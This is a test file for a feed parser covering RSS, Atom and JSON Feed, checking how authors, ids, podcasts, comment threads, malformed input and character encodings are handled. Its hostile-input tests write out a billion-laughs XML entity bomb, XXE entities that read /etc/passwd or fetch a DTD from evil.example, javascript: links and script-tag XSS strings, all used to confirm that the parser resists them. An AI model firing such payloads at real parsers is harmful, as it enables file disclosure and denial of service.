import fc from 'fast-check'
import { anyRecord } from '@kith/contract/records'
import { describe, expect, it } from 'vitest'
import { decodeText } from '../kit/api-body.ts'
import { discoverFeeds } from './discover.ts'
import type { Feed } from './feed.ts'
import { holdsOf, mapEntry, sharedIds } from './map.ts'
import { parseFeed } from './parse.ts'

const ADDRESS = 'https://blog.example.org/feed.xml'
const NOW = Date.UTC(2026, 0, 1)

const parsed = (text: string): Feed => {
  const feed = parseFeed(text, ADDRESS)
  expect(feed).toBeDefined()
  return feed ?? expect.fail('no feed')
}
const mapped = (text: string, more: Partial<Parameters<typeof mapEntry>[1]> = {}) => {
  const feed = parsed(text)
  return feed.entries.map((entry) => {
    const item = mapEntry(entry, {
      address: ADDRESS,
      feed,
      holds: 'articles',
      locator: 'here',
      nowMs: NOW,
      shared: sharedIds(feed.entries),
      ...more,
    })
    return 'record' in item && item.record.type === 'activity' ? item.record : item
  })
}
const rss = (items: string, head = '') =>
  `<?xml version="1.0"?><rss version="2.0"><channel><title>Garden</title><link>/</link>${head}${items}</channel></rss>`
const item = (inner: string) => `<item>${inner}</item>`
const DATE = '<pubDate>Tue, 06 Dec 2016 17:17:00 +0000</pubDate>'

describe('RSS', () => {
  it('becomes articles, with their words, writers and what hangs on them', () => {
    const text = rss(
      item(`<title>Tom &amp;amp; Zoë &lt;b&gt;bold&lt;/b&gt;</title><link>/one</link><guid isPermaLink="false">g-1</guid>${DATE}
        <author>ann@example.org (Ann Example)</author><category>TypeScript</category><category><![CDATA[R&D]]></category>
        <description>Short</description><content:encoded><![CDATA[<p>Long <script>alert(1)</script>text</p><p>two</p>]]></content:encoded>
        <enclosure url="https://cdn.example.org/a.mp3" type="audio/mpeg" length="1234"/><slash:comments>7</slash:comments>`),
      '<dc:creator>Editor</dc:creator>',
    )
    expect(mapped(text)).toEqual([
      {
        type: 'activity',
        kind: 'article',
        externalId: 'g-1',
        occurredAt: Date.UTC(2016, 11, 6, 17, 17),
        actor: { platform: 'email', key: 'ann@example.org', email: 'ann@example.org', name: 'Ann Example' },
        title: 'Tom & Zoë bold',
        body: 'Long text\ntwo',
        url: 'https://blog.example.org/one',
        conversation: 'g-1',
        place: 'Garden',
        technologies: ['TypeScript', 'R&D'],
        attributes: { comments: 7, enclosure: 'https://cdn.example.org/a.mp3', enclosureType: 'audio/mpeg', enclosureBytes: 1234 },
      },
    ])
  })

  it('takes for the id what is one: guid, else the address, else what does not change', () => {
    const ids = (text: string) => mapped(text).map((record) => ('externalId' in record ? record.externalId : 'none'))
    expect(
      ids(rss(item(`<guid>https://blog.example.org/p</guid>${DATE}`) + item(`<link>https://blog.example.org/q</link>${DATE}`))),
    ).toEqual(['https://blog.example.org/p', 'https://blog.example.org/q'])
    // Some programs give one id to all entries.
    expect(ids(rss(item(`<guid>x</guid><link>/a</link>${DATE}`) + item(`<guid>x</guid><link>/b</link>${DATE}`)))).toEqual([
      'https://blog.example.org/a',
      'https://blog.example.org/b',
    ])
    const made = ids(rss(item(`<title>Only a title</title>${DATE}`)))
    expect(made).toEqual(ids(rss(item(`<title>Only a title</title>${DATE}<category>new</category>`))))
    expect(made[0]).toMatch(/^sha1:[0-9a-f]{40}$/)
    expect(ids(rss(item(`<guid>${'g'.repeat(900)}</guid>${DATE}`)))[0]).toMatch(/^sha1:/)
    expect(ids(rss(item(DATE)))).toEqual(['none'])
  })

  it('knows writers in all the ways in which they are named, and the feed itself where nobody is', () => {
    const actor = (inner: string, head = '') =>
      mapped(rss(item(`<guid>1</guid>${DATE}${inner}`), head)).map((record) => ('actor' in record ? record.actor : record))[0]
    expect(actor('<dc:creator>Ann   Example</dc:creator>')).toEqual({
      platform: 'feed:blog.example.org',
      key: 'name:ann example',
      name: 'Ann Example',
    })
    expect(actor('<author>Ann &lt;ANN@example.org&gt;</author>')).toMatchObject({ platform: 'email', key: 'ann@example.org', name: 'Ann' })
    expect(actor('<author>ann@example.org</author>')).toEqual({ platform: 'email', key: 'ann@example.org', email: 'ann@example.org' })
    expect(actor('<itunes:author>The Garden Show</itunes:author>')).toMatchObject({ key: 'name:the garden show' })
    expect(actor('', '<managingEditor>bo@example.org (Bo)</managingEditor>')).toMatchObject({ key: 'bo@example.org', name: 'Bo' })
    expect(actor('')).toEqual({ platform: 'feed', key: ADDRESS, name: 'Garden', url: 'https://blog.example.org/' })
    const [two] = mapped(rss(item(`<guid>1</guid>${DATE}<dc:creator>Ann</dc:creator><dc:creator>Bo</dc:creator>`)))
    expect(two).toMatchObject({ actor: { name: 'Ann' }, mentions: [{ name: 'Bo' }] })
  })

  it('is RSS 1.0 and 0.9, too, and whatever prefixes stand for', () => {
    const rdf = `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://purl.org/rss/1.0/" xmlns:d="http://purl.org/dc/elements/1.1/">
      <channel rdf:about="x"><title>Old</title></channel><item rdf:about="https://old.example.org/1"><title>One</title><link>https://old.example.org/1</link><d:date>2003-05-01</d:date><d:creator>Ann</d:creator></item></rdf:RDF>`
    expect(mapped(rdf)).toMatchObject([
      { externalId: 'https://old.example.org/1', occurredAt: Date.UTC(2003, 4, 1), actor: { name: 'Ann' }, place: 'Old' },
    ])
    expect(parsed('<RSS version="0.91"><CHANNEL><TITLE>T</TITLE><ITEM><TITLE>A</TITLE></ITEM></CHANNEL></RSS>').entries).toHaveLength(1)
  })

  it('tells podcasts, with how long and which episode', () => {
    const text = rss(
      item(
        `<guid>e1</guid>${DATE}<title>One</title><enclosure url="https://cdn.example.org/a.mp3" type="audio/mpeg"/><itunes:duration>1:02:03</itunes:duration><itunes:season>2</itunes:season><itunes:episode>7</itunes:episode><itunes:summary>Talk</itunes:summary>`,
      ),
      '<itunes:author>Show</itunes:author>',
    )
    expect(holdsOf(parsed(text), ADDRESS)).toBe('episodes')
    expect(mapped(text, { holds: 'episodes' })).toMatchObject([
      { kind: 'episode', body: 'Talk', actor: { name: 'Show' }, attributes: { duration: 3_723, season: 2, episode: 7 } },
    ])
  })

  it('keeps what answers what, in feeds of comments', () => {
    const text = rss(
      item(
        `<guid>https://blog.example.org/?p=1#comment-3</guid><link>https://blog.example.org/one/#comment-3</link>${DATE}<dc:creator>Bo</dc:creator>`,
      ),
    )
    expect(mapped(text, { holds: 'comments' })).toMatchObject([
      { kind: 'comment', replyTo: 'https://blog.example.org/one/', conversation: 'https://blog.example.org/one/' },
    ])
    expect(holdsOf(parsed(text), 'https://blog.example.org/comments/feed/')).toBe('comments')
  })
})

describe('Atom', () => {
  const entry = (inner: string) =>
    `<feed xmlns="http://www.w3.org/2005/Atom"><title type="html">A &amp;lt;b&amp;gt;</title><author><name>Feed’s own</name></author>${inner}</feed>`

  it('becomes articles', () => {
    const text =
      entry(`<entry xml:base="https://other.example.org/x/"><id>tag:example.org,2024:1</id><title type="text">R &amp; D</title><link rel="edit" href="/e"/><link href="one"/>
      <published>2024-01-30T08:00:00+01:00</published><updated>2024-02-01T00:00:00Z</updated><category term="rust" label="Rust"/>
      <author><name>Ann</name><uri>https://ann.example.org/</uri></author><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>One &lt; two</p><p>Three</p></div></content></entry>`)
    expect(mapped(text)).toMatchObject([
      {
        externalId: 'tag:example.org,2024:1',
        occurredAt: Date.UTC(2024, 0, 30, 7),
        url: 'https://other.example.org/x/one',
        title: 'R & D',
        body: 'One < two\nThree',
        actor: { platform: 'feed:blog.example.org', key: 'https://ann.example.org/', name: 'Ann' },
        technologies: ['Rust'],
        attributes: { edited: '2024-02-01T00:00:00.000Z' },
      },
    ])
    const bare = mapped(entry('<entry><id>2</id><updated>2024-01-30T08:00:00Z</updated><summary>a &lt;b&gt; c</summary></entry>'))
    expect(bare).toMatchObject([{ actor: { name: 'Feed’s own' }, body: 'a <b> c', attributes: { dated: 'as changed' } }])
  })

  it('tells answers (RFC 4685), what was taken back (RFC 6721), where more is (RFC 5005), and how much there is', () => {
    const text = entry(`<opensearch:totalResults>99</opensearch:totalResults><link rel="next" href="?page=2"/>
      <entry><id>2</id><updated>2024-01-30T08:00:00Z</updated><thr:in-reply-to ref="1" xmlns:thr="http://purl.org/syndication/thread/1.0"/></entry>
      <at:deleted-entry xmlns:at="http://purl.org/atompub/tombstones/1.0" ref="3" when="2024-02-01T00:00:00Z"><at:by><name>Ann</name></at:by></at:deleted-entry>`)
    expect(parsed(text)).toMatchObject({ next: 'https://blog.example.org/feed.xml?page=2', total: 99 })
    expect(mapped(text)).toMatchObject([
      { externalId: '2', replyTo: '1', conversation: '1' },
      { externalId: '3', deleted: true, actor: { name: 'Ann' } },
    ])
  })

  it('tells releases and alerts by their addresses', () => {
    expect(holdsOf(parsed(entry('')), 'https://code.example.org/a/b/releases.atom')).toBe('releases')
    const alert = entry(
      `<entry><id>a</id><title type="html">&lt;b&gt;Garden&lt;/b&gt; is out</title><link href="https://www.google.com/url?rct=j&amp;url=https://news.example.net/garden&amp;ct=ga"/><published>2024-01-30T08:00:00Z</published><author><name></name></author></entry>`,
    )
    expect(holdsOf(parsed(alert), 'https://www.google.com/alerts/feeds/1/2')).toBe('mentions')
    expect(mapped(alert, { holds: 'mentions' })).toMatchObject([
      {
        kind: 'mention',
        title: 'Garden is out',
        url: 'https://news.example.net/garden',
        actor: { platform: 'web', key: 'news.example.net' },
      },
    ])
  })
})

describe('JSON Feed', () => {
  it('becomes articles, of both versions', () => {
    const feed = {
      version: 'https://jsonfeed.org/version/1.1',
      title: 'Garden',
      home_page_url: 'https://blog.example.org/',
      next_url: 'https://blog.example.org/feed.json?page=2',
      items: [
        {
          id: 1,
          url: '/one',
          title: 'One',
          content_html: '<p>Hi</p>',
          date_published: '2024-01-30T08:00:00Z',
          authors: [{ name: 'Ann', url: 'https://ann.example.org' }, { name: 'Bo' }],
          tags: ['go'],
          attachments: [{ url: 'https://cdn.example.org/a.mp3', mime_type: 'audio/mpeg', size_in_bytes: 5, duration_in_seconds: 60 }],
        },
        { id: 'two', content_text: 'a <b> c', date_modified: '2024-01-31T08:00:00Z', author: { name: 'Cy' } },
        'nonsense',
      ],
    }
    expect(parsed(JSON.stringify(feed)).next).toBe('https://blog.example.org/feed.json?page=2')
    expect(mapped(JSON.stringify(feed))).toMatchObject([
      {
        externalId: '1',
        url: 'https://blog.example.org/one',
        body: 'Hi',
        actor: { key: 'https://ann.example.org/' },
        mentions: [{ name: 'Bo' }],
        technologies: ['go'],
        attributes: { duration: 60, enclosureBytes: 5 },
      },
      { externalId: 'two', body: 'a <b> c', actor: { name: 'Cy' } },
    ])
    expect(parseFeed('{"items": 7}', ADDRESS)).toBeUndefined()
    expect(parseFeed('{"items": [', ADDRESS)).toBeUndefined()
  })
})

describe('what is broken', () => {
  it('is read as feed readers do', () => {
    const titles = (text: string) => parsed(text).entries.map(({ title }) => title)
    // Bare ampersands, an entity of HTML, HTML that is not hidden, tags that are not closed or cross, items that never end, text before the beginning.
    expect(titles(rss(item('<title>Q & A &nbsp; &copy;</title>')))).toEqual(['Q & A &nbsp; &copy;'])
    expect(mapped(rss(item(`<guid>1</guid>${DATE}<description><p>One<br>two & <b>three</p></description>`)))).toMatchObject([
      { body: 'One\ntwo & three' },
    ])
    expect(titles(rss('<item><title>A</title><item><title>B</title></item>'))).toEqual(['A', 'B'])
    expect(titles(rss(item('<title><i>A</title></i>') + item('<title>B</title>')))).toHaveLength(2)
    expect(titles(`\n\n  ${rss(item('<title>A</title>'))}<!-- counted --><script>x</script>`)).toEqual(['A'])
  })

  it('is read up to where it is cut, and says so', () => {
    const whole = rss(item('<title>A</title>') + item('<title>B</title>'))
    for (const at of [whole.indexOf('</item></channel>'), whole.indexOf('B</title>'), whole.length - 8]) {
      const feed = parsed(whole.slice(0, at))
      expect([feed.fault, feed.entries[0]?.title]).toEqual(['cut', 'A'])
    }
    expect(parsed(whole).fault).toBeUndefined()
  })

  it('is nothing where it is no feed', () => {
    for (const text of ['', 'hello', '<html><body>no</body></html>', '{}', '[]', 'null', '<svg/>', '\0\0'])
      expect([text, parseFeed(text, ADDRESS)]).toEqual([text, undefined])
  })
})

describe('what is hostile', () => {
  it('resolves no entity of a document’s own, and fetches none', () => {
    const lol = Array.from(
      { length: 20 },
      (_, level) => `<!ENTITY l${level + 1} "&l${level};&l${level};&l${level};&l${level};&l${level};&l${level};&l${level};&l${level};">`,
    ).join('')
    const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "lol">${lol}<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY % far SYSTEM "https://evil.example/x.dtd">%far;]>${rss(item('<title>&l20;&secret;</title><guid>1</guid>'))}`
    const [entry] = parsed(bomb).entries
    expect(entry?.title).toBe('&l20;&secret;')
  })

  it('is bounded in depth, number and length, in time that grows with its size alone', () => {
    expect(parsed(rss(item('<a>'.repeat(1_000_000)))).fault).toBe('too-deep')
    const many = parsed(rss('<item><title>x</title></item>'.repeat(20_000)))
    expect([many.fault, many.entries.length]).toEqual(['too-many', 10_000])
    const start = performance.now()
    const long = parsed(rss(item(`<title>${'<b>'.repeat(30)}${'x'.repeat(5_000_000)}</title><guid>1</guid>`)))
    expect((long.entries[0]?.title.length ?? 0) <= 2_000_100).toBe(true)
    expect(parsed(rss(`<item>${'<x/>'.repeat(300_000)}</item>`)).entries).toHaveLength(1)
    const wide = parsed(rss(item(`<title>A</title>${`<x>${'<y/>'.repeat(4_000)}</x>`.repeat(100)}`)))
    expect(wide.entries[0]?.title).toBe('A')
    expect(parsed(rss(item(`<guid ${Array.from({ length: 50_000 }, (_, index) => `a${index}="1"`).join(' ')}>1</guid>`))).fault).toBe(
      'too-deep',
    )
    expect(discoverFeeds('<a>'.repeat(300_000), ADDRESS)).toEqual([])
    expect(performance.now() - start).toBeLessThan(10_000)
  })

  it('gives addresses of the web alone', () => {
    for (const address of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,x', `https://x.example/${'a'.repeat(3_000)}`]) {
      const [record] = mapped(rss(item(`<guid>1</guid>${DATE}<link>${address}</link><enclosure url="${address}"/>`)))
      expect(record).not.toHaveProperty('url')
      expect(record).not.toHaveProperty('attributes')
    }
  })

  it('never throws, and gives records that fit, whatever comes', () => {
    const names = [
      'rss',
      'channel',
      'item',
      'entry',
      'feed',
      'title',
      'link',
      'guid',
      'id',
      'pubDate',
      'updated',
      'description',
      'content',
      'content:encoded',
      'author',
      'name',
      'dc:creator',
      'itunes:duration',
      'enclosure',
      'category',
      'thr:in-reply-to',
      'at:deleted-entry',
      'x',
    ]
    const value = fc.oneof(
      fc.string(),
      fc.string({ unit: 'binary' }),
      fc.constantFrom(
        '2024-01-30T08:00:00Z',
        'Tue, 06 Dec 2016 17:17:00 +0000',
        'https://x.example/a',
        '&amp;',
        '<![CDATA[',
        ']]>',
        '&#0;',
        '&#xD800;',
        'ann@example.org (Ann)',
      ),
    )
    const tag = fc.oneof(
      fc.constantFrom(...names).map((name) => `<${name}>`),
      fc.constantFrom(...names).map((name) => `</${name}>`),
      fc
        .tuple(fc.constantFrom(...names), fc.constantFrom('href', 'url', 'rel', 'type', 'xmlns', 'isPermaLink', 'ref', 'xml:base'), value)
        .map(([name, attribute, given]) => `<${name} ${attribute}="${given}">`),
      value,
    )
    fc.assert(
      fc.property(
        fc.array(tag, { maxLength: 40 }),
        fc.constantFrom('articles' as const, 'mentions' as const, 'comments' as const),
        (parts, holds) => {
          const feed = parseFeed(`<rss>${parts.join('')}`, ADDRESS)
          for (const entry of feed?.entries ?? []) {
            const made = mapEntry(entry, {
              address: ADDRESS,
              feed: feed ?? expect.fail(),
              holds,
              locator: 'x',
              nowMs: NOW,
            })
            if ('record' in made) expect(anyRecord.safeParse(made.record).error).toBeUndefined()
          }
        },
      ),
      { numRuns: 300 },
    )
    const any = fc.letrec((tie) => ({ node: fc.oneof({ maxDepth: 4 }, fc.string(), fc.integer(), fc.constant(null), fc.array(tie('node')), fc.dictionary(fc.constantFrom('items', 'id', 'url', 'title', 'authors', 'author', 'name', 'tags', 'attachments', 'date_published', 'content_html', 'next_url'), tie('node'))) })).node // prettier-ignore
    fc.assert(
      fc.property(any, (json) => {
        const feed = parseFeed(JSON.stringify({ items: [json] }), ADDRESS)
        for (const entry of feed?.entries ?? []) {
          const made = mapEntry(entry, { address: ADDRESS, feed: feed ?? expect.fail(), holds: 'articles', locator: 'x', nowMs: NOW })
          if ('record' in made) expect(anyRecord.safeParse(made.record).error).toBeUndefined()
        }
      }),
      { numRuns: 200 },
    )
  })
})

describe('a page', () => {
  it('names its feeds, those of comments last', () => {
    const html = `<!doctype html><html><head><base href="https://blog.example.org/en/"><link rel="stylesheet" href="x.css">
      <LINK REL="alternate" TYPE="application/rss+xml" TITLE="Comments" HREF="comments/feed/"><link rel=alternate type=application/rss+xml href=feed.xml>
      <link rel="alternate" type="application/json" href="/wp-json/wp/v2/posts/1"><link rel="alternate" hreflang="de" href="/de/"><link rel="alternate" type="application/atom+xml" href="javascript:alert(1)">`
    expect(discoverFeeds(html, 'https://blog.example.org/')).toEqual([
      'https://blog.example.org/en/feed.xml',
      'https://blog.example.org/en/comments/feed/',
    ])
    expect(discoverFeeds('<a href="feed.xml">RSS</a>', ADDRESS)).toEqual([])
  })
})

describe('bytes', () => {
  it('are read in the encoding that they say they have', () => {
    const text = '<?xml version="1.0" encoding="iso-8859-1"?><a>Zoë</a>'
    expect(decodeText(Buffer.from(text, 'latin1'), null)).toContain('Zoë')
    expect(decodeText(Buffer.from('<a>Zoë</a>', 'latin1'), 'text/xml; charset=ISO-8859-1')).toContain('Zoë')
    expect(decodeText(Buffer.from(`\uFEFF${text}`, 'utf16le'), 'text/xml; charset=utf-8')).toContain('Zoë')
    expect(decodeText(Buffer.from('<a>Zoë</a>'), 'text/xml; charset=nonsense')).toBe('<a>Zoë</a>')
    expect(decodeText(Buffer.from('<html><meta charset=windows-1252><p>\x80', 'latin1'), null)).toContain('€')
  })
})
